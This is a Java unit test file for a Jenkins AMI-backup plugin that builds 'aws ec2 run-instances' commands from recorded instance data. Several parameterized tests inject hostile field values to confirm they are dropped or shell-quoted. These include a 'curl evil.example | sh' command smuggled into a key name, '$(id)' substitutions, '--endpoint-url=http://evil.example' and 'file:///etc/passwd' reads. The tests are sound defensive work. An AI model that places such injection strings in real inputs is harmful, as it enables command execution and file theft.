package io.jenkins.plugins.amibackup.engine.catalog;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.jenkins.plugins.amibackup.engine.TestBed;
import io.jenkins.plugins.amibackup.engine.base.Line;
import java.io.IOException;
import java.io.InputStream;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The call that launches an instance like the recorded one; the record may hold anything. */
class LaunchCallTest {

    private static final String STORED = "ami-0ee521d7a0f4d3872";
    private static final String RESTORED = "ami-0fedcba9876543210";
    private static final String PROFILE = "arn:aws:iam::123456789012:instance-profile/web/server";
    private static final ObjectMapper JSON = new ObjectMapper();

    private ObjectNode record;
    private ObjectNode instance;

    @BeforeEach
    void readGoldenRecord() throws IOException {
        try (InputStream golden = TestBed.class.getResourceAsStream("golden/catalog/record-complete.json")) {
            record = (ObjectNode) JSON.readTree(golden);
        }
        instance = (ObjectNode) record.path("sourceInstance").path("description");
        instance.putArray("SecurityGroups").addObject().put("GroupId", "sg-0a1b2c3d4e5f60003");
        instance.putObject("IamInstanceProfile").put("Arn", PROFILE);
    }

    private LaunchCall call() throws IOException {
        return call("eu-west-1", "123456789012");
    }

    private LaunchCall call(String region, String account) throws IOException {
        return LaunchCall.of(
                Optional.of(BackupRecord.parse(STORED, JSON.writeValueAsBytes(record))),
                new LaunchCall.Target(RESTORED, region, account));
    }

    private List<String> remarks(LaunchCall call) {
        return call.remarks().stream().map(Line::text).toList();
    }

    @Test
    void theCallHasWhatTheRecordSays() throws IOException {
        LaunchCall call = call();

        assertThat(call.command())
                .isEqualTo(
                        "aws ec2 run-instances --region eu-west-1 --image-id " + RESTORED
                                + " --instance-type t3.micro --subnet-id subnet-0a1b2c3d4e5f60002"
                                + " --security-group-ids sg-0a1b2c3d4e5f60003 --key-name operations"
                                + " --iam-instance-profile Arn=" + PROFILE + " --ebs-optimized"
                                + " --tag-specifications '[{\"ResourceType\":\"instance\",\"Tags\":[{\"Key\":\"Name\",\"Value\":\"web-1\"}]}]'");
        assertThat(remarks(call))
                .containsExactly(
                        "When the old instance is gone, --private-ip-address 10.0.1.10 keeps its address.",
                        "User data is never recorded: add --user-data if the old instance had any.");
        assertThat(call.lines().stream().map(Line::text))
                .containsExactly(
                        "To launch an instance like i-053cb9f0c747ea2ea from " + RESTORED + ": " + call.command(),
                        String.join(" ", remarks(call)),
                        "Or launch it in the EC2 console: https://eu-west-1.console.aws.amazon.com/ec2/home"
                                + "?region=eu-west-1#LaunchInstances:ami=" + RESTORED);
    }

    @Test
    void anInstanceThatWasBetterProtectedOrAloneOnItsHardwareStaysSo() throws IOException {
        instance.putObject("MetadataOptions").put("HttpTokens", "required").put("HttpEndpoint", "disabled");
        ((ObjectNode) instance.path("Placement")).put("Tenancy", "dedicated");

        assertThat(call().command())
                .contains(" --metadata-options 'HttpTokens=required,HttpEndpoint=disabled' --ebs-optimized"
                        + " --placement Tenancy=dedicated ");
    }

    @Test
    void whatTheRecordDoesNotSayIsLeftOutAndNamed() throws IOException {
        instance.remove(List.of("KeyName", "IamInstanceProfile", "SecurityGroups", "PrivateIpAddress"));
        instance.putArray("NetworkInterfaces").addObject().put("Status", "in-use");
        ((com.fasterxml.jackson.databind.node.ArrayNode) instance.path("NetworkInterfaces")).addObject();

        LaunchCall call = call();

        assertThat(call.command())
                .startsWith("aws ec2 run-instances --region eu-west-1 --image-id " + RESTORED
                        + " --instance-type t3.micro --subnet-id subnet-0a1b2c3d4e5f60002 --ebs-optimized ");
        assertThat(remarks(call))
                .containsExactly(
                        "Not in the call, because the record names none: security groups, key pair, instance profile.",
                        "The old instance had 2 network interfaces, the call makes one.",
                        "User data is never recorded: add --user-data if the old instance had any.");
    }

    @Test
    void inAnotherRegionThereAreNoSubnetGroupsAndKey() throws IOException {
        LaunchCall call = call("eu-central-1", "123456789012");

        assertThat(call.command())
                .startsWith("aws ec2 run-instances --region eu-central-1 --image-id " + RESTORED
                        + " --instance-type t3.micro --iam-instance-profile Arn=" + PROFILE + " --ebs-optimized ");
        assertThat(remarks(call))
                .containsExactly(
                        "Not in the call, because the backup is from eu-west-1 and each Region has its own:"
                                + " subnet, security groups, key pair.",
                        "User data is never recorded: add --user-data if the old instance had any.");
        assertThat(call.console())
                .hasValue(
                        "https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#LaunchInstances:ami="
                                + RESTORED);
    }

    @Test
    void inAnotherAccountThereIsNoInstanceProfileEither() throws IOException {
        LaunchCall call = call("eu-west-1", "210987654321");

        assertThat(call.command())
                .startsWith("aws ec2 run-instances --region eu-west-1 --image-id " + RESTORED
                        + " --instance-type t3.micro --ebs-optimized ");
        assertThat(remarks(call))
                .containsExactly(
                        "Not in the call, because the backup is from the account 123456789012 and each account has its own:"
                                + " subnet, security groups, key pair, instance profile.",
                        "User data is never recorded: add --user-data if the old instance had any.");
    }

    @Test
    void withoutARecordTheCallHasTheImageAndSaysWhatToAdd() {
        LaunchCall call = LaunchCall.of(Optional.empty(), new LaunchCall.Target(RESTORED, "us-iso-east-1", ""));

        assertThat(call.lines().stream().map(Line::text))
                .containsExactly(
                        "To launch an instance from " + RESTORED
                                + ": aws ec2 run-instances --region us-iso-east-1 --image-id " + RESTORED,
                        "There is no record of how the old instance ran: add an instance type, a subnet and security groups."
                                + " User data is never recorded: add --user-data if the old instance had any.");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "--endpoint-url=http://evil.example",
                "-h",
                "file:///etc/passwd",
                "fileb://key",
                "https://evil.example/key",
                "a\nb",
                "a\u202eb",
                "sch\u00fcssel",
                "",
                " ",
                "x y\u0000"
            })
    void aKeyNameThatTheAwsCliOrATerminalWouldReadOtherwiseIsLeftOut(String name) throws IOException {
        instance.put("KeyName", name);

        LaunchCall call = call();

        assertThat(call.command()).doesNotContain("--key-name").doesNotContain("evil");
        assertThat(remarks(call))
                .contains("Not in the call, because what the record says is not what EC2 writes: key pair.");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a'; curl evil.example | sh; '", "$(id)", "`id`", "a && id", "a\\", "\"", "!!", "a b", "*"})
    void whatAShellWouldReadIsOneQuotedWord(String name) throws IOException {
        instance.put("KeyName", name);

        assertThat(call().command()).contains(" --key-name '" + name.replace("'", "'\\''") + "' --iam");
    }

    @Test
    void valuesOfAnotherFormAreLeftOutAndNamed() throws IOException {
        instance.put("InstanceType", "t3.micro --user-data file:///etc/passwd");
        instance.put("SubnetId", "subnet-1; id");
        ((ObjectNode) instance.path("SecurityGroups").get(0)).put("GroupId", "--dry-run");
        instance.putObject("IamInstanceProfile").put("Arn", PROFILE + ",Name=admin");
        instance.put("PrivateIpAddress", "$(id)");

        LaunchCall call = call();

        assertThat(call.command())
                .startsWith("aws ec2 run-instances --region eu-west-1 --image-id " + RESTORED
                        + " --key-name operations --ebs-optimized ");
        assertThat(remarks(call))
                .containsExactly(
                        "Not in the call, because what the record says is not what EC2 writes:"
                                + " instance type, subnet, security groups, instance profile.",
                        "User data is never recorded: add --user-data if the old instance had any.");
    }

    @Test
    void valuesThatAreNoTextsAreNone() throws IOException {
        instance.putArray("InstanceType").add(1);
        instance.putObject("SubnetId");
        instance.put("SecurityGroups", 7);
        instance.putNull("KeyName");
        instance.put("IamInstanceProfile", "admin");
        instance.put("MetadataOptions", "x");
        instance.put("NetworkInterfaces", "x");

        LaunchCall call = call();

        assertThat(call.command())
                .startsWith("aws ec2 run-instances --region eu-west-1 --image-id " + RESTORED + " --ebs-optimized ");
        assertThat(remarks(call))
                .contains(
                        "Not in the call, because the record names none: security groups, key pair, instance profile.")
                .contains(
                        "Not in the call, because what the record says is not what EC2 writes: instance type, subnet.");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Büro 1", "\u05e9\u05e8\u05ea 1", "東京🦄"})
    void aNameOfAnyLanguageIsInTheCall(String name) throws IOException {
        ((ObjectNode) record.path("tags").path("instance")).put("Name", name);

        assertThat(call().command()).contains("\"Value\":\"" + name + "\"");
    }

    @ParameterizedTest
    @ValueSource(strings = {"web\u202e1", "web\n1", "web\u001b[2J"})
    void aNameThatATerminalWouldShowOtherwiseIsLeftOutAndThatIsSaid(String name) throws IOException {
        ((ObjectNode) record.path("tags").path("instance")).put("Name", name);

        LaunchCall call = call();
        assertThat(call.command()).doesNotContain("--tag-specifications");
        assertThat(remarks(call))
                .contains("The name of the old instance is not in the call, because it has characters that can't be"
                        + " shown.");
    }

    @Test
    void aNameCanNotBeginAnotherFieldOfTheTags() throws IOException {
        ((ObjectNode) record.path("tags").path("instance")).put("Name", "web'}],[{Key=x\"},\\");

        assertThat(call().command())
                .endsWith(" --tag-specifications '[{\"ResourceType\":\"instance\",\"Tags\":[{\"Key\":\"Name\","
                        + "\"Value\":\"web'\\''}],[{Key=x\\\"},\\\\\"}]}]'");
    }

    @Test
    void theLongestCallFitsInALineOfALog() throws IOException {
        instance.put("KeyName", "'".repeat(255));
        instance.putObject("IamInstanceProfile")
                .put("Arn", "arn:aws:iam::123456789012:instance-profile/" + "p".repeat(640));
        ((ObjectNode) record.path("tags").path("instance")).put("Name", "\"".repeat(128));
        var groups = instance.putArray("SecurityGroups");
        for (int i = 0; i < 16; i++) {
            groups.addObject().put("GroupId", "sg-0a1b2c3d4e5f60003");
        }

        LaunchCall call = call();

        assertThat(call.lines().get(0).text()).endsWith(call.command()).doesNotContain("…");
    }
}
